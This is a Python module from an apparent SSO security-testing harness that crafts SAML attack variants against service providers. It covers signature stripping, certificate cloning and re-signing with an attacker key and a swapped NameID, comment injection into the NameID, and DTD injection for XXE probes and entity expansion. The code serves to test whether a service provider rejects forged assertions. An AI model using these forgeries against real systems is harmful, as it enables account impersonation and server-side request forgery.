"""The SAML derivations other than wrapping: signatures, certificates, NameID, DTDs.

* :func:`strip_signatures`: signature exclusion ("On Breaking SAML" §5).
* :func:`clone_certificate`: a self-signed certificate with the IdP
  certificate's subject, issuer, serial number and validity, but the
  attacker's key (what SAML Raider's certificate cloning produces).
* :func:`resign`: drop the signatures and sign again with the attacker's key,
  putting the attacker's certificate in KeyInfo; a safe SP ignores KeyInfo
  and verifies with its configured certificate (XML-DSig §4.5).
* :func:`inject_comment`: ``victim@example.com<!---->.evil.example``. The
  comment is outside the signed octets (Exc-C14N without comments), so the
  signature stays valid; an SP that reads only the first text node sees the
  victim (CVE-2017-11427 and siblings).
* :func:`with_doctype` / :func:`entity_expansion`: an internal DTD subset in
  front of the response, for XXE and entity expansion; a safe SAML parser
  refuses any DTD.
"""

from __future__ import annotations

import datetime as dt

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from sso_harness.apps.security.saml_mint import sign
from sso_harness.apps.security.saml_xml import (
    clone,
    ds,
    first_assertion,
    name_id_element,
    remove,
    set_name_id,
)
from sso_harness.mocks.base.keys import KeyAndCert, self_signed

__all__ = [
    "AttackerKey",
    "attacker_key",
    "clone_certificate",
    "strip_signatures",
    "resign",
    "inject_comment",
    "serialize",
    "with_doctype",
    "external_entity_probe",
    "entity_expansion",
    "LAUGHS",
]

AttackerKey = KeyAndCert
LAUGHS = "lol" * 27
"""What the three-level entity chain of :func:`entity_expansion` expands to."""


def attacker_key(common_name: str = "sso-harness attacker", *, now: dt.datetime | None = None) -> AttackerKey:
    """A fresh RSA key with a self-signed certificate naming the attacker (valid for 30 days)."""
    return self_signed(common_name, now=now, valid_days=30)


def clone_certificate(original: x509.Certificate, key: rsa.RSAPrivateKey) -> x509.Certificate:
    """``original``'s subject, issuer, serial and validity over ``key``, self-signed by it."""
    builder = (
        x509.CertificateBuilder()
        .subject_name(original.subject)
        .issuer_name(original.issuer)
        .public_key(key.public_key())
        .serial_number(original.serial_number)
        .not_valid_before(original.not_valid_before_utc)
        .not_valid_after(original.not_valid_after_utc)
    )
    for extension in original.extensions:
        # Key identifiers describe the original key; copying them would be a lie a verifier might catch.
        if extension.oid.dotted_string not in ("2.5.29.14", "2.5.29.35"):
            builder = builder.add_extension(extension.value, extension.critical)
    return builder.sign(key, hashes.SHA256())


def strip_signatures(response: etree._Element) -> etree._Element:
    root = clone(response)
    for signature in list(root.iter(ds("Signature"))):
        remove(signature)
    return root


def resign(response: etree._Element, key: AttackerKey, *, evil_name_id: str | None = None) -> etree._Element:
    """Unsigned copy, optionally with another NameID, signed again (assertion, then Response) by ``key``."""
    root = strip_signatures(response)
    assertion = first_assertion(root)
    if assertion is not None:
        if evil_name_id is not None:
            set_name_id(assertion, evil_name_id)
        sign(assertion, key)
    sign(root, key)
    return root


def inject_comment(response: etree._Element, keep: str) -> etree._Element:
    """Split the NameID after its first ``keep`` characters with an empty comment."""
    root = clone(response)
    assertion = first_assertion(root)
    element = None if assertion is None else name_id_element(assertion)
    text = "" if element is None else (element.text or "")
    if element is None or not text.startswith(keep) or len(text) <= len(keep):
        raise ValueError(f"the NameID {text!r} does not extend {keep!r}")
    element.text = keep
    comment = etree.Comment("")
    comment.tail = text[len(keep):]
    element.insert(0, comment)
    return root


def serialize(response: etree._Element) -> bytes:
    return etree.tostring(response)


def with_doctype(xml: bytes, internal_subset: str) -> bytes:
    """``<!DOCTYPE Response [subset]>`` in front of the serialised response."""
    return f"<!DOCTYPE Response [{internal_subset}]>".encode() + xml


def external_entity_probe(url: str) -> str:
    """An internal subset whose parameter entity makes a DTD-processing parser fetch ``url``."""
    return f'<!ENTITY % sso_harness_probe SYSTEM "{url}"> %sso_harness_probe;'


def entity_expansion(xml: bytes) -> bytes:
    """Replace the :data:`LAUGHS` value with a three-level entity chain that expands back to it.

    An SP that expands the entities reads exactly what was signed, so only
    the entity handling decides the outcome; one that keeps DTDs out refuses.
    """
    marker = f">{LAUGHS}<".encode()
    if marker not in xml:
        raise ValueError("the response carries no expansion marker value")
    subset = '<!ENTITY l0 "lol"><!ENTITY l1 "&l0;&l0;&l0;"><!ENTITY l2 "&l1;&l1;&l1;"><!ENTITY l3 "&l2;&l2;&l2;">'
    return with_doctype(xml.replace(marker, b">&l3;<", 1), subset)

